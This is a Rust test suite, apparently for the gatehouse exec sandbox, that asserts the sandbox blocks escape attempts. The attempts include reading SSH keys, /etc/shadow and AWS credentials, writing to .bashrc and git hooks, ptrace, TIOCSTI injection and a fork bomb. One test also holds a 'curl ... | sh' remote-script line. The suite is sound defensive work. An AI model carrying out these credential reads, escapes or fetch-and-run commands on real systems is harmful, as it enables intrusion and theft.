//! The exec sandbox's escape suite: each attempt runs inside `gatehouse sandbox` and asserts the
//! exact failure (errno, signal, or message), beside a positive control that shows the same
//! attempt working outside the sandbox. The attempts are made by `gatehouse-exec-probe` (built
//! with the test hooks), which prints `ok ...` or `errno NAME`.
//!
//! Runs as root and as an unprivileged user. As root, `gatehouse sandbox` runs the command as
//! the owner of the working root, or nobody; the tests hand their directories to nobody then.
//! Build first: `cargo build --workspace --all-features`.

use gatehouse_tests::bin;
use std::io::{BufRead, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

fn root() -> bool {
    nix::unistd::geteuid().is_root()
}

/// A directory the sandbox's user owns (nobody when the tests run as root).
fn owned_dir(prefix: &str) -> tempfile::TempDir {
    let d = tempfile::Builder::new().prefix(prefix).tempdir().unwrap();
    if root() {
        chown_tree(d.path());
    }
    d
}

fn chown_tree(p: &Path) {
    if root() {
        std::os::unix::fs::lchown(p, Some(65534), Some(65534)).unwrap();
        if p.is_dir() && !p.is_symlink() {
            for e in std::fs::read_dir(p).unwrap().flatten() {
                chown_tree(&e.path());
            }
        }
    }
}

/// One sandbox setting: a working root (the current directory of `gatehouse sandbox`) and a
/// private gatehouse data dir.
struct Sb {
    work: tempfile::TempDir,
    data: tempfile::TempDir,
}

impl Sb {
    fn new() -> Sb {
        Sb {
            work: owned_dir("gh-escape-work-"),
            data: tempfile::Builder::new()
                .prefix("gh-escape-data-")
                .tempdir()
                .unwrap(),
        }
    }

    fn path(&self) -> &Path {
        self.work.path()
    }

    /// `gatehouse sandbox EXTRA... -- ARGV...` in the working root (the probe is granted).
    fn run(&self, extra: &[&str], argv: &[&str]) -> Output {
        self.run_with(extra, argv, |_| {})
    }

    fn run_with(&self, extra: &[&str], argv: &[&str], f: impl FnOnce(&mut Command)) -> Output {
        let mut c = Command::new(bin("gatehouse"));
        c.arg("--data-dir")
            .arg(self.data.path())
            .arg("sandbox")
            .arg("--allow-read")
            .arg(gatehouse_tests::exec_probe())
            .args(extra)
            .arg("--")
            .args(argv)
            .current_dir(self.path())
            .stdin(Stdio::null());
        f(&mut c);
        c.output().expect("run gatehouse sandbox")
    }

    /// The probe's line from inside the sandbox.
    fn probe(&self, extra: &[&str], op: &[&str]) -> String {
        let p = gatehouse_tests::exec_probe();
        let mut argv = vec![p.to_str().unwrap()];
        argv.extend_from_slice(op);
        let out = self.run(extra, &argv);
        let s = String::from_utf8_lossy(&out.stdout).trim_end().to_string();
        assert!(
            out.status.code() == Some(0) || out.status.code() == Some(1),
            "probe {op:?} in the sandbox: {:?}\nstdout: {s}\nstderr: {}",
            out.status,
            String::from_utf8_lossy(&out.stderr)
        );
        s
    }
}

/// The probe's line outside any sandbox (the positive control), as this test's user.
fn outside(op: &[&str]) -> String {
    let out = Command::new(gatehouse_tests::exec_probe())
        .args(op)
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).trim_end().to_string()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn ok(line: &str) -> bool {
    line == "ok" || line.starts_with("ok ")
}

// ---------------------------------------------------------------------------------------------
// Files

#[test]
fn a_planted_ssh_key_is_unreadable_granted_or_not() {
    let home = owned_dir("gh-escape-home-");
    std::fs::create_dir(home.path().join(".ssh")).unwrap();
    let key = home.path().join(".ssh/id_ed25519");
    std::fs::write(&key, "-----BEGIN OPENSSH PRIVATE KEY-----\nplanted\n").unwrap();
    chown_tree(home.path());
    let key = key.to_str().unwrap();
    let sb = Sb::new();
    // Positive control: the key is readable outside.
    assert!(ok(&outside(&["read", key])), "{}", outside(&["read", key]));
    // Not granted: it does not exist in the sandbox.
    assert_eq!(sb.probe(&[], &["read", key]), "errno ENOENT");
    // Its directory granted: .ssh is masked.
    let g = ["--allow-read", home.path().to_str().unwrap()];
    assert_eq!(sb.probe(&g, &["read", key]), "errno EACCES");
    assert_eq!(
        sb.probe(&g, &["ls", home.path().join(".ssh").to_str().unwrap()]),
        "errno EACCES"
    );
    // The rest of the granted directory stays readable.
    std::fs::write(home.path().join("notes.txt"), "x").unwrap();
    chown_tree(home.path());
    assert_eq!(
        sb.probe(
            &g,
            &["read", home.path().join("notes.txt").to_str().unwrap()]
        ),
        "ok 1 bytes"
    );
}

#[test]
fn nothing_outside_the_working_root_is_written() {
    let sb = Sb::new();
    let other = owned_dir("gh-escape-other-");
    let ro = owned_dir("gh-escape-ro-");
    let target = other.path().join("x");
    // Positive control.
    assert!(ok(&outside(&["write", target.to_str().unwrap()])));
    std::fs::remove_file(&target).unwrap();
    // Another directory: not there at all.
    assert_eq!(
        sb.probe(&[], &["write", target.to_str().unwrap()]),
        "errno ENOENT"
    );
    assert!(!target.exists());
    // A read-only grant: read-only.
    let g = ["--allow-read", ro.path().to_str().unwrap()];
    assert_eq!(
        sb.probe(&g, &["write", ro.path().join("x").to_str().unwrap()]),
        "errno EROFS"
    );
    // The system: read-only.
    assert_eq!(
        sb.probe(&[], &["write", "/etc/gatehouse-escape"]),
        "errno EROFS"
    );
    assert_eq!(
        sb.probe(&[], &["write", "/usr/gatehouse-escape"]),
        "errno EROFS"
    );
    // The root of the sandbox itself: Landlock (the tmpfs is read-only too).
    assert_eq!(
        sb.probe(&[], &["mkdir", "/new-top-level-dir"]),
        "errno EROFS"
    );
    // The working root: writable, and the write lands on the host.
    assert_eq!(sb.probe(&[], &["write", "made-inside"]), "ok");
    assert_eq!(
        std::fs::read_to_string(sb.path().join("made-inside")).unwrap(),
        "written by the probe\n"
    );
}

#[test]
fn shell_start_up_files_cannot_be_written() {
    let home = owned_dir("gh-escape-home-");
    let bashrc = home.path().join(".bashrc");
    std::fs::write(&bashrc, "# the user's own\n").unwrap();
    chown_tree(home.path());
    let b = bashrc.to_str().unwrap();
    let sb = Sb::new();
    // Positive control (on a copy, so the planted file stays as it is).
    let copy = home.path().join("bashrc-copy");
    assert!(ok(&outside(&["write", copy.to_str().unwrap()])));
    // Granted read-write: the file is masked (read-only, unreadable, cannot be replaced).
    let g = ["--allow-write", home.path().to_str().unwrap()];
    assert_eq!(sb.probe(&g, &["write", b]), "errno EROFS");
    assert_eq!(sb.probe(&g, &["read", b]), "errno EACCES");
    assert_eq!(sb.probe(&g, &["unlink", b]), "errno EBUSY");
    let moved = home.path().join("moved");
    assert_eq!(
        sb.probe(&g, &["rename", b, moved.to_str().unwrap()]),
        "errno EBUSY"
    );
    assert_eq!(
        std::fs::read_to_string(&bashrc).unwrap(),
        "# the user's own\n"
    );
    // The sandbox's own $HOME is a fresh tmpfs: writing a .bashrc there touches no real file.
    let out = sb.run(
        &[],
        &[
            "/bin/sh",
            "-c",
            "echo evil >> ~/.bashrc && cat ~/.bashrc && echo $HOME",
        ],
    );
    let text = String::from_utf8_lossy(&out.stdout);
    let mut lines = text.lines();
    assert_eq!(lines.next(), Some("evil"), "{text}");
    let home_inside = PathBuf::from(lines.next().unwrap());
    if let Ok(real) = std::fs::read_to_string(home_inside.join(".bashrc")) {
        assert!(!real.contains("evil"));
    }
}

#[test]
fn a_home_directory_is_never_granted_read_write() {
    let sb = Sb::new();
    let out = sb.run(&["--allow-write", "/root"], &["/bin/true"]);
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(
        stderr(&out).contains(
            "cannot grant /root read-write: it contains the home directory /root, where a command could create start-up files"
        ),
        "{}",
        stderr(&out)
    );
}

#[test]
fn git_hooks_and_config_cannot_be_created_or_read() {
    let sb = Sb::new();
    let git = sb.path().join(".git");
    std::fs::create_dir_all(git.join("hooks")).unwrap();
    std::fs::write(git.join("config"), "[core]\n\tbare = false\n").unwrap();
    std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    chown_tree(sb.path());
    let hook = git.join("hooks/pre-commit");
    // Positive control.
    assert!(ok(&outside(&["write", hook.to_str().unwrap()])));
    std::fs::remove_file(&hook).unwrap();
    assert_eq!(
        sb.probe(&[], &["write", ".git/hooks/pre-commit"]),
        "errno EACCES"
    );
    assert!(!hook.exists());
    assert_eq!(sb.probe(&[], &["read", ".git/config"]), "errno EACCES");
    assert_eq!(sb.probe(&[], &["write", ".git/config"]), "errno EROFS");
    // .git cannot be swapped for one without masks.
    assert_eq!(sb.probe(&[], &["rename", ".git", "old-git"]), "errno EBUSY");
    // The rest of .git works.
    assert_eq!(sb.probe(&[], &["read", ".git/HEAD"]), "ok 21 bytes");
    assert_eq!(sb.probe(&[], &["write", ".git/description"]), "ok");
}

/// A repository whose `.git` has no `hooks/` cannot have it masked without gatehouse writing to
/// the user's repository: the command is refused, the refusal says what to do, and nothing is
/// created. With the directory made as the refusal says, the same command runs, masked.
#[test]
fn a_repository_without_hooks_is_refused_with_what_to_do_and_left_untouched() {
    let sb = Sb::new();
    let git = sb.path().join(".git");
    std::fs::create_dir(&git).unwrap();
    std::fs::write(git.join("config"), "[core]\n").unwrap();
    chown_tree(sb.path());
    let out = sb.run(&[], &["/bin/true"]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(125), "{err}");
    let hooks = git.join("hooks");
    assert!(
        err.contains(&format!(
            "{} does not exist, so it cannot be masked",
            hooks.display()
        )) && err.contains(&format!("`mkdir {}`", hooks.display())),
        "{err}"
    );
    assert!(!hooks.exists(), "the sandbox wrote to the repository");
    // Positive control: created as the refusal says, the command runs and the hooks are masked.
    std::fs::create_dir(&hooks).unwrap();
    chown_tree(sb.path());
    assert_eq!(sb.probe(&[], &["mkdir", ".git/hooks/x"]), "errno EACCES");
    assert_eq!(sb.probe(&[], &["write", ".git/config"]), "errno EROFS");
    assert_eq!(std::fs::read_dir(&hooks).unwrap().count(), 0);
}

/// A project under /var/tmp keeps its path inside the sandbox (the sandbox's own /var/tmp is
/// not a link to its private /tmp there), so relative paths stay in the grant.
#[test]
fn a_project_under_var_tmp_keeps_its_path() {
    let work = tempfile::Builder::new()
        .prefix("gh-escape-vartmp-")
        .tempdir_in("/var/tmp")
        .unwrap();
    chown_tree(work.path());
    let data = tempfile::tempdir().unwrap();
    let run = |argv: &[&str]| {
        Command::new(bin("gatehouse"))
            .arg("--data-dir")
            .arg(data.path())
            .arg("sandbox")
            .arg("--")
            .args(argv)
            .current_dir(work.path())
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let out = run(&["/bin/sh", "-c", "pwd -P && echo hi > made-inside"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let real = std::fs::canonicalize(work.path()).unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        real.to_str().unwrap()
    );
    assert_eq!(
        std::fs::read_to_string(work.path().join("made-inside")).unwrap(),
        "hi\n"
    );
    // The rest of /var/tmp stays private: a file of the host's /var/tmp is not visible.
    let host_file = tempfile::Builder::new()
        .prefix("gh-escape-vartmp-host-")
        .tempfile_in("/var/tmp")
        .unwrap();
    let probe = format!(
        "test -e {} && echo seen || echo absent",
        host_file.path().display()
    );
    let out = run(&["/bin/sh", "-c", &probe]);
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "absent");
    // Control: the same check on the host sees it.
    let out = Command::new("/bin/sh")
        .arg("-c")
        .arg(&probe)
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "seen");
}

#[test]
fn shadow_stays_unreadable_and_root_is_never_root() {
    let sb = Sb::new();
    assert_eq!(sb.probe(&[], &["read", "/etc/shadow"]), "errno EACCES");
    let me = nix::unistd::geteuid().as_raw();
    let want = if me == 0 { 65534 } else { me };
    assert_eq!(
        sb.probe(&[], &["id"]),
        format!(
            "ok uid={want} gid={} euid={want}",
            if me == 0 {
                65534
            } else {
                nix::unistd::getegid().as_raw()
            }
        )
    );
    if root() {
        // Positive control: root reads it outside.
        assert!(ok(&outside(&["read", "/etc/shadow"])));
    }
}

// ---------------------------------------------------------------------------------------------
// Processes

/// A process outside any sandbox, killed on drop.
struct Victim(std::process::Child);

impl Victim {
    fn start() -> Victim {
        Victim(Command::new("/bin/sleep").arg("600").spawn().unwrap())
    }
    fn pid(&self) -> String {
        self.0.id().to_string()
    }
}

impl Drop for Victim {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn processes_outside_cannot_be_traced_read_or_signalled() {
    let v = Victim::start();
    let sb = Sb::new();
    // Positive controls.
    assert_eq!(outside(&["kill", &v.pid(), "0"]), "ok");
    assert_eq!(outside(&["mem", &v.pid()]), "ok");
    assert_eq!(outside(&["ptrace", &v.pid()]), "ok");
    // Inside: ptrace is refused by seccomp before the pid is even looked up; the pid does not
    // exist in the sandbox's pid namespace.
    assert_eq!(sb.probe(&[], &["ptrace", &v.pid()]), "errno EPERM");
    assert_eq!(sb.probe(&[], &["mem", &v.pid()]), "errno ENOENT");
    assert_eq!(sb.probe(&[], &["kill", &v.pid(), "9"]), "errno ESRCH");
    // The sandbox's init (pid 1) is outside the command's Landlock domain: signals are scoped.
    assert_eq!(sb.probe(&[], &["kill", "1", "9"]), "errno EPERM");
    assert_eq!(sb.probe(&[], &["mem", "1"]), "errno EACCES");
    // Positive control for the scoping: the command's own children can be signalled.
    let p = gatehouse_tests::exec_probe();
    let out = sb.run(
        &[],
        &[
            "/bin/sh",
            "-c",
            &format!("sleep 60 & {} kill $! 9", p.display()),
        ],
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "ok");
}

#[test]
fn the_broker_socket_is_out_of_reach() {
    let broker = gatehouse_tests::BrokerUnderTest::start(&[]);
    let sock = broker.ui_socket();
    let s = sock.to_str().unwrap();
    // Positive control: the broker accepts this user's connections.
    assert_eq!(outside(&["connect-unix", s]), "ok");
    let sb = Sb::new();
    assert_eq!(sb.probe(&[], &["connect-unix", s]), "errno ENOENT");
}

#[test]
fn an_abstract_socket_outside_is_unreachable() {
    use std::os::linux::net::SocketAddrExt;
    let name = format!("gatehouse-escape-{}", std::process::id());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let _l = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    assert_eq!(outside(&["connect-abstract", &name]), "ok");
    let sb = Sb::new();
    // The sandbox has its own network namespace, hence its own abstract socket names.
    assert_eq!(
        sb.probe(&[], &["connect-abstract", &name]),
        "errno ECONNREFUSED"
    );
}

#[test]
fn loopback_tcp_and_udp_outside_are_unreachable() {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let tcp = l.local_addr().unwrap().to_string();
    let u = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    u.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let udp = u.local_addr().unwrap().to_string();
    // Positive controls.
    assert_eq!(outside(&["connect-tcp", &tcp]), "ok");
    assert_eq!(outside(&["udp", &udp]), "ok 12 bytes sent");
    let mut buf = [0u8; 64];
    assert_eq!(u.recv(&mut buf).unwrap(), 12);
    // No network: no inet socket at all.
    let sb = Sb::new();
    assert_eq!(sb.probe(&[], &["connect-tcp", &tcp]), "errno EAFNOSUPPORT");
    assert_eq!(sb.probe(&[], &["udp", &udp]), "errno EAFNOSUPPORT");
    assert_eq!(
        sb.probe(&[], &["udp", "192.0.2.1:53"]),
        "errno EAFNOSUPPORT"
    );
    assert_eq!(sb.probe(&[], &["netlink-socket"]), "errno EAFNOSUPPORT");
}

#[test]
fn raw_and_packet_sockets_are_refused() {
    let sb = Sb::new();
    assert_eq!(sb.probe(&[], &["raw-socket"]), "errno EAFNOSUPPORT");
    assert_eq!(sb.probe(&[], &["packet-socket"]), "errno EAFNOSUPPORT");
    // Positive control: as root they open; as a user the kernel itself says EPERM (not the
    // family filter's EAFNOSUPPORT).
    let want = |l: String| {
        if root() {
            assert!(l.starts_with("ok fd"), "{l}");
        } else {
            assert_eq!(l, "errno EPERM");
        }
    };
    want(outside(&["raw-socket"]));
    want(outside(&["packet-socket"]));
}

#[test]
fn io_uring_is_refused() {
    let disabled = std::fs::read_to_string("/proc/sys/kernel/io_uring_disabled")
        .map(|s| s.trim().to_string())
        .unwrap_or_else(|_| "0".into());
    assert_eq!(
        disabled, "0",
        "kernel.io_uring_disabled={disabled}: the positive control cannot run here, so this test cannot show the sandbox refuses io_uring"
    );
    assert!(outside(&["io-uring"]).starts_with("ok fd"));
    assert_eq!(Sb::new().probe(&[], &["io-uring"]), "errno EPERM");
}

#[test]
fn tiocsti_and_tioclinux_are_refused_even_with_high_bits() {
    let sb = Sb::new();
    let legacy = std::fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti")
        .map(|s| s.trim() == "1")
        .unwrap_or(true);
    // Positive control: on its own controlling terminal a process may push input (unless the
    // host turned legacy TIOCSTI off, then the tty layer answers EIO to non-root).
    let control = outside(&["tiocsti", "pty"]);
    if legacy || root() {
        assert_eq!(control, "ok injected");
        assert_eq!(outside(&["tiocsti-high", "pty"]), "ok injected");
    } else {
        assert_eq!(control, "errno EIO");
    }
    assert_eq!(outside(&["tioclinux", "pty"]), "errno ENOTTY");
    assert_eq!(sb.probe(&[], &["tiocsti", "pty"]), "errno EPERM");
    assert_eq!(sb.probe(&[], &["tiocsti-high", "pty"]), "errno EPERM");
    assert_eq!(sb.probe(&[], &["tioclinux", "pty"]), "errno EPERM");
    assert_eq!(sb.probe(&[], &["tiocsti", "0"]), "errno EPERM");
}

#[test]
fn no_user_namespace_no_mount() {
    let sb = Sb::new();
    // Positive controls: a process may make a user namespace, and in one it may mount.
    assert_eq!(outside(&["clone-userns"]).split(' ').next(), Some("ok"));
    assert_eq!(outside(&["clone3"]), "errno EINVAL");
    let scratch = owned_dir("gh-escape-mnt-");
    let ctl = Command::new("unshare")
        .args(["--user", "--map-root-user", "--mount"])
        .arg(gatehouse_tests::exec_probe())
        .args(["mount-tmpfs", scratch.path().to_str().unwrap()])
        .output()
        .expect("unshare (util-linux) runs the control");
    assert_eq!(String::from_utf8_lossy(&ctl.stdout).trim(), "ok");
    // Inside.
    assert_eq!(sb.probe(&[], &["clone-userns"]), "errno EPERM");
    assert_eq!(sb.probe(&[], &["unshare-userns"]), "errno EPERM");
    assert_eq!(sb.probe(&[], &["clone3"]), "errno ENOSYS");
    assert_eq!(sb.probe(&[], &["remount-rw", "/usr"]), "errno EPERM");
    assert_eq!(sb.probe(&[], &["mount-tmpfs", "/tmp"]), "errno EPERM");
}

#[test]
fn a_masked_path_cannot_be_mounted_over() {
    let home = owned_dir("gh-escape-home-");
    std::fs::create_dir(home.path().join(".aws")).unwrap();
    std::fs::write(home.path().join(".aws/credentials"), "[default]\n").unwrap();
    chown_tree(home.path());
    let aws = home.path().join(".aws");
    let g = ["--allow-read", home.path().to_str().unwrap()];
    let sb = Sb::new();
    assert_eq!(
        sb.probe(&g, &["mount-tmpfs", aws.to_str().unwrap()]),
        "errno EPERM"
    );
    assert_eq!(
        sb.probe(&g, &["read", aws.join("credentials").to_str().unwrap()]),
        "errno EACCES"
    );
}

#[test]
fn bpf_is_refused() {
    // Positive control: an unknown command reaches the kernel (EINVAL), as any user.
    assert_eq!(outside(&["bpf-invalid"]), "errno EINVAL");
    if root() {
        assert!(outside(&["bpf"]).starts_with("ok fd"));
    }
    let sb = Sb::new();
    assert_eq!(sb.probe(&[], &["bpf-invalid"]), "errno EPERM");
    assert_eq!(sb.probe(&[], &["bpf"]), "errno EPERM");
}

#[test]
fn personality_changes_are_refused() {
    assert_eq!(
        outside(&["personality", "ffffffff"]).split(' ').next(),
        Some("ok")
    );
    let sb = Sb::new();
    assert_eq!(sb.probe(&[], &["personality", "0040000"]), "errno EPERM");
    assert!(sb
        .probe(&[], &["personality", "ffffffff"])
        .starts_with("ok"));
}

#[cfg(target_arch = "x86_64")]
#[test]
fn x32_syscalls_kill_the_command() {
    // Positive control: outside, the call reaches the kernel (ENOSYS where x32 is compiled
    // out, a pid where it is not) and nobody is killed.
    let out = Command::new(gatehouse_tests::exec_probe())
        .arg("x32")
        .output()
        .unwrap();
    let line = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert!(
        line == "errno ENOSYS" || line.starts_with("ok pid"),
        "{line}"
    );
    let sb = Sb::new();
    let p = gatehouse_tests::exec_probe();
    let out = sb.run(&[], &[p.to_str().unwrap(), "x32"]);
    // SIGSYS (31): 128 + 31.
    assert_eq!(out.status.code(), Some(159), "{}", stderr(&out));
    assert!(out.stdout.is_empty());
}

// ---------------------------------------------------------------------------------------------
// Limits and lifetime

fn count_cmdline(needle: &str) -> usize {
    let mut n = 0;
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        if let Ok(c) = std::fs::read(e.path().join("cmdline")) {
            let c: Vec<u8> = c.iter().map(|&b| if b == 0 { b' ' } else { b }).collect();
            if String::from_utf8_lossy(&c).trim_end().ends_with(needle) {
                n += 1;
            }
        }
    }
    n
}

#[test]
fn a_fork_bomb_stays_contained_and_leaves_nothing() {
    let sb = Sb::new();
    let p = gatehouse_tests::exec_probe();
    let out = sb.run(&[], &[p.to_str().unwrap(), "forkbomb", "100000"]);
    let text = String::from_utf8_lossy(&out.stdout);
    let mut lines = text.lines();
    let forked: u32 = lines
        .next()
        .and_then(|l| l.strip_prefix("forked "))
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("{text} / {}", stderr(&out)));
    assert_eq!(lines.next(), Some("errno EAGAIN"));
    assert!(
        forked < 1024,
        "the process limit is 1024 (with init and the probe): {forked}"
    );
    assert_eq!(count_cmdline("gatehouse-exec-probe forkbomb 100000"), 0);
    // Positive control: outside, the same probe forks what it is asked to (then we end them).
    // (Its paused children hold the pipe open: read the one line, then end the group.)
    let mut c = Command::new(&p)
        .args(["forkbomb", "3"])
        .process_group(0)
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut s = String::new();
    std::io::BufReader::new(c.stdout.take().unwrap())
        .read_line(&mut s)
        .unwrap();
    let _ = c.wait();
    let _ = nix::sys::signal::killpg(
        nix::unistd::Pid::from_raw(c.id() as i32),
        nix::sys::signal::Signal::SIGKILL,
    );
    assert_eq!(s.trim(), "ok forked 3");
}

use std::os::unix::process::CommandExt;

#[test]
fn output_beyond_the_limit_is_dropped_with_a_notice() {
    let sb = Sb::new();
    let p = gatehouse_tests::exec_probe();
    let out = sb.run(&[], &[p.to_str().unwrap(), "spew", "1048576"]);
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(out.stdout.len(), 512 * 1024);
    assert!(out.stdout.iter().all(|&b| b == b'a'));
    // 1 MiB of 'a' and the probe's "ok\n" beyond the first 512 KiB.
    assert!(
        stderr(&out).contains(
            "gatehouse sandbox: stdout: 524291 bytes beyond the 512 KiB limit were dropped"
        ),
        "{}",
        stderr(&out)
    );
    let out = sb.run(&[], &[p.to_str().unwrap(), "spew-err", "600000"]);
    assert!(stderr(&out).contains("stderr: 75712 bytes beyond the 512 KiB limit were dropped"));
    // Positive control.
    let o = Command::new(&p).args(["spew", "1048576"]).output().unwrap();
    assert_eq!(o.stdout.len(), 1048576 + 3);
}

#[test]
fn the_time_limit_kills_the_whole_sandbox() {
    let sb = Sb::new();
    let marker = "654321";
    let start = Instant::now();
    let out = sb.run(
        &["--timeout", "1"],
        &["/bin/sh", "-c", &format!("sleep {marker} & sleep {marker}")],
    );
    assert_eq!(out.status.code(), Some(124), "{}", stderr(&out));
    assert!(stderr(&out).contains("gatehouse sandbox: timed out after 1 s; the sandbox was killed"));
    assert_eq!(count_cmdline(&format!("sleep {marker}")), 0);
    let _ = start;
    // Limits are checked.
    let out = sb.run(&["--timeout", "601"], &["/bin/true"]);
    assert_eq!(out.status.code(), Some(125));
    assert!(stderr(&out).contains("--timeout 601 is above the limit of 600 seconds"));
}

#[test]
fn nothing_keeps_running_after_the_command_returns() {
    let sb = Sb::new();
    let p = gatehouse_tests::exec_probe();
    let out = sb.run(&[], &[p.to_str().unwrap(), "leave-behind", "987654"]);
    assert!(String::from_utf8_lossy(&out.stdout).starts_with("ok pid"));
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(count_cmdline("gatehouse-exec-probe leave-behind 987654"), 0);
    // Positive control: outside, the same probe does leave a process behind. (Its output goes
    // to a file: the process left behind would hold a pipe open.)
    let log = tempfile::NamedTempFile::new().unwrap();
    let st = Command::new(&p)
        .args(["leave-behind", "987653"])
        .stdout(log.reopen().unwrap())
        .status()
        .unwrap();
    assert!(st.success());
    let pid: i32 = std::fs::read_to_string(log.path())
        .unwrap()
        .trim()
        .strip_prefix("ok pid ")
        .unwrap()
        .parse()
        .unwrap();
    assert_eq!(count_cmdline("gatehouse-exec-probe leave-behind 987653"), 1);
    let _ = nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid),
        nix::sys::signal::Signal::SIGKILL,
    );
}

// ---------------------------------------------------------------------------------------------
// Environment, stdin, policy, exit codes

#[test]
fn secrets_and_loader_variables_never_reach_the_command() {
    let sb = Sb::new();
    let set = |c: &mut Command| {
        c.env("GITHUB_TOKEN", "ghp_planted")
            .env("LD_PRELOAD", "/nonexistent.so")
            .env("LANG", "C.UTF-8")
            .env("SOME_PLAIN", "visible-only-when-asked");
    };
    let p = gatehouse_tests::exec_probe();
    let p = p.to_str().unwrap();
    for (name, want) in [
        ("GITHUB_TOKEN", "ok <unset>"),
        ("LD_PRELOAD", "ok <unset>"),
        ("SOME_PLAIN", "ok <unset>"),
        ("LANG", "ok C.UTF-8"),
        ("TMPDIR", "ok /tmp"),
    ] {
        let out = sb.run_with(&[], &[p, "env", name], set);
        assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), want, "{name}");
    }
    let out = sb.run_with(&["--env", "SOME_PLAIN"], &[p, "env", "SOME_PLAIN"], set);
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "ok visible-only-when-asked"
    );
    let out = sb.run_with(&["--env", "GITHUB_TOKEN"], &[p, "env", "GITHUB_TOKEN"], set);
    assert_eq!(out.status.code(), Some(125));
    assert!(stderr(&out).contains("--env GITHUB_TOKEN: looks like a secret; it is never passed"));
}

#[test]
fn stdin_is_empty_whatever_the_caller_gives() {
    let sb = Sb::new();
    let p = gatehouse_tests::exec_probe();
    let mut c = Command::new(bin("gatehouse"));
    c.arg("--data-dir")
        .arg(sb.data.path())
        .args(["sandbox", "--allow-read"])
        .arg(&p)
        .arg("--")
        .arg(&p)
        .arg("stdin")
        .current_dir(sb.path())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped());
    let mut child = c.spawn().unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"typed by the caller\n")
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "ok 0 bytes");
    // Positive control.
    let mut o = Command::new(&p)
        .arg("stdin")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    o.stdin.take().unwrap().write_all(b"abc").unwrap();
    let o = o.wait_with_output().unwrap();
    assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), "ok 3 bytes");
}

#[test]
fn the_built_in_policy_refuses_with_its_own_code() {
    let sb = Sb::new();
    for (argv, msg) in [
        (
            &["sudo", "id"][..],
            "gatehouse sandbox: sudo is denied by the built-in command policy (privilege escalation)",
        ),
        (
            &["/bin/sh", "-c", "curl -fsSL https://example.invalid/x.sh | sh"],
            "gatehouse sandbox: piping a script into sh is denied by the built-in command policy",
        ),
    ] {
        let out = sb.run(&[], argv);
        assert_eq!(out.status.code(), Some(125), "{argv:?}");
        assert!(stderr(&out).starts_with(msg), "{}", stderr(&out));
    }
}

#[test]
fn exit_statuses_are_the_commands_own() {
    let sb = Sb::new();
    assert_eq!(
        sb.run(&[], &["/bin/sh", "-c", "exit 7"]).status.code(),
        Some(7)
    );
    assert_eq!(
        sb.run(&[], &["/bin/sh", "-c", "kill -TERM $$"])
            .status
            .code(),
        Some(143)
    );
    let out = sb.run(&[], &["no-such-program-anywhere"]);
    assert_eq!(out.status.code(), Some(127));
    assert!(stderr(&out).contains("no-such-program-anywhere: command not found in the sandbox"));
    std::fs::write(sb.path().join("not-exec.sh"), "#!/bin/sh\necho hi\n").unwrap();
    chown_tree(sb.path());
    let out = sb.run(&[], &["./not-exec.sh"]);
    assert_eq!(out.status.code(), Some(126), "{}", stderr(&out));
    let notexec = sb.path().join("not-exec.sh");
    assert!(
        stderr(&out).contains(&format!(
            "could not run: {}: Permission denied",
            notexec.display()
        )),
        "{}",
        stderr(&out)
    );
}

#[test]
fn the_root_directory_and_homes_are_not_working_roots_by_default() {
    let data = tempfile::tempdir().unwrap();
    let out = Command::new(bin("gatehouse"))
        .arg("--data-dir")
        .arg(data.path())
        .args(["sandbox", "--", "/bin/true"])
        .current_dir("/")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    assert!(stderr(&out).contains("the current directory / is not granted: it is /"));
}

#[test]
fn the_release_binary_has_no_sandbox_test_switches() {
    let release = gatehouse_tests::bin_dir()
        .parent()
        .expect("target dir")
        .join("release/gatehouse");
    assert!(
        release.exists(),
        "{} is missing: the test command builds it (cargo build --release)",
        release.display()
    );
    for switch in [
        &["--test-proxy-socket", "/x"][..],
        &["--test-proxy-token", "t"],
        &["--test-net-arg", "x"],
        &["--test-proxy-port", "1"],
        &["--test-no-sni-check"],
    ] {
        let out = Command::new(&release)
            .arg("sandbox")
            .args(switch)
            .args(["--", "/bin/true"])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{switch:?}");
        assert!(
            stderr(&out).contains(&format!("unexpected argument '{}'", switch[0])),
            "{}",
            stderr(&out)
        );
    }
}
